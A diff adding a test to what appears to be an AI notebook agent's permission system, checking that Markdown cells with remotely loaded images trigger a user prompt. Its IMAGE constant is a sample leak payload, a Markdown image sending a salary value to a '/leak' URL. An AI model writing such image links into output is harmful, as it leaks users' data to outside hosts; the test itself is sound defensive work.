@@ -10,7 +10,9 @@ from copilot_kernel.chat.notebook_gate import NO_TURN
 from copilot_kernel.config import Settings
 from copilot_kernel.conversation.model import ToolCall
 from copilot_kernel.notebook.calls import OVER
+from copilot_kernel.notebook.live import NotebookCell
 from copilot_kernel.permissions.grants import UNCOVERED_TOOL
+from copilot_kernel.permissions.policy import REMOTE
 from copilot_kernel.rendering.question import question_text
 
 from ..notebook_tools.fakes import FakeNotebook
@@ -123,6 +125,38 @@ async def test_the_question_shows_what_is_done_and_the_call_how_it_ended(setting
         [("completed", "allowed by you")] * 2,
     )
     assert notebook.done == [("edit", "c1", "x = 2"), ("python", "df.describe()")]
+
+
+IMAGE = "![chart](http://127.0.0.1:1/leak?salary=4711)"
+EDITS_OF_TEXT = [
+    ("m1", "x", IMAGE),
+    ("m1", "x", IMAGE[1:]),
+    ("m2", IMAGE, IMAGE.replace("salary", "age")),
+    ("c1", "x", f"# {IMAGE}"),
+    ("r1", "x", IMAGE),
+]
+
+
+@pytest.mark.parametrize(
+    ("more", "count"), [({"permission_mode": "acceptEdits"}, 2), ({"allow": ("mcp__notebook",)}, 2), (BYPASS, 0)]
+)
+async def test_markdown_that_the_page_would_load_from_elsewhere_prompts(
+    settings: Settings, more: Json, count: int
+) -> None:
+    """A link, what was loaded before, and cells that are not shown as Markdown are edited as ever."""
+    notebook, person = FakeNotebook("x"), Person("reject_once")
+    cells = [NotebookCell("m1", "markdown", "x"), NotebookCell("m2", "markdown", IMAGE), NotebookCell("r1", "raw", "x")]
+    notebook.state = replace(notebook.state, cells=(*notebook.state.cells, *cells))
+
+    async def act(agent: Agent) -> None:
+        await agent.call("insert_cell", type="markdown", source=IMAGE)
+        for id, expected, source in EDITS_OF_TEXT:
+            await agent.call("edit_cell", id=id, expected=expected, source=source)
+
+    async with in_notebook(settings, act, notebook, **more) as (chat, _):
+        await ask(chat, "Go", person)
+    assert [question.why for question in person.questions] == [REMOTE.format("127.0.0.1:1")] * count
+    assert ("edit", "c1", f"# {IMAGE}") in notebook.done
 
 
 async def test_a_no_is_told_to_the_agent(settings: Settings) -> None:
